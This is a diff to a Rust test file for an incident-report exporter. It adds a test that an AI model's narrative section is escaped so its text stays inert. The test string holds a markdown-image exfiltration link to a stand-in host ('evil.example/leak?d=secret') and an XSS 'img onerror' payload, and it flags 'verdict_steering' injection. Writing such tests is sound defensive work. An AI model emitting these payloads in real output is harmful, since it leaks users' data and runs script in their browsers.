@@ -2,7 +2,7 @@
 //! controlled), recommendations that follow from the record.
 
 use picket_core::Incident;
-use picket_export::report::{ActionLine, ReportInput, html, markdown};
+use picket_export::report::{ActionLine, Narrative, ReportInput, html, markdown};
 
 fn incident(title: &str) -> Incident {
     serde_json::from_value(serde_json::json!({
@@ -38,6 +38,7 @@ fn markdown_has_every_phase_and_recommends_from_the_record() {
             "source:suricata".into(),
         )],
         verdicts: vec![],
+        narrative: None,
     };
     let md = markdown(&r);
     for section in [
@@ -74,6 +75,7 @@ fn html_escapes_attacker_controlled_text() {
         actions: vec![],
         lifecycle: vec![],
         verdicts: vec![],
+        narrative: None,
     };
     let page = html(&r);
     assert!(page.starts_with("<!DOCTYPE html>"));
@@ -95,4 +97,64 @@ fn html_escapes_attacker_controlled_text() {
         .unwrap()
         .success();
     assert!(ok, "HTML is not well-formed:\n{page}");
+}
+
+#[test]
+fn a_model_narrative_goes_beside_the_record_and_its_text_is_inert() {
+    let inc = incident("Beacon on web01");
+    let evil = "see ![x](https://evil.example/leak?d=secret) <img src=x onerror=alert(1)> **now**";
+    let r = ReportInput {
+        incident: &inc,
+        actions: vec![],
+        lifecycle: vec![],
+        verdicts: vec![],
+        narrative: Some(Narrative {
+            provider: "claude".into(),
+            mode: "pipeline".into(),
+            status: "completed".into(),
+            findings: vec![(evil.into(), vec!["alert:al_1".into()])],
+            timeline: vec![(
+                "2026-11-20T10:00:00Z".into(),
+                "first beacon".into(),
+                vec!["alert:al_1".into()],
+            )],
+            verdict: Some(("benign".into(), 0.9)),
+            rationale: vec![],
+            actions: vec![("isolate_host".into(), "web01".into(), "contain".into())],
+            confidence_note: Some("one sensor".into()),
+            standing: "needs_review".into(),
+            review_reason: Some("the model's verdict is lower than the engine's".into()),
+            injection: vec!["verdict_steering".into()],
+        }),
+    };
+    let md = markdown(&r);
+    let (record, model) = md
+        .split_once("## Model narrative")
+        .expect("a narrative section");
+    assert!(
+        record.contains("## Recommendations"),
+        "the record comes first"
+    );
+    assert!(
+        model.contains("Model verdict: **benign**")
+            && model.contains("standing verdict: **needs_review**")
+    );
+    assert!(model.contains("Injection-like content"));
+    // No live link, image or HTML from the model's text.
+    assert!(!model.contains("![x](https://"), "{model}");
+    assert!(
+        model.contains("\\!\\[x\\]\\(https://evil.example/leak?d=secret\\)"),
+        "{model}"
+    );
+    assert!(!model.contains("<img"), "{model}");
+    assert!(model.contains("&lt;img src=x"), "{model}");
+    assert!(model.contains("cites alert:al\\_1"), "{model}");
+    assert!(model.contains("Proposed isolate\\_host on web01"));
+    let page = html(&r);
+    assert!(!page.contains("<img"), "{page}");
+    assert!(
+        page.contains("&lt;img src=x onerror=alert(1)&gt; **now**"),
+        "{page}"
+    );
+    assert!(page.contains("<h2>Model narrative</h2>"));
 }
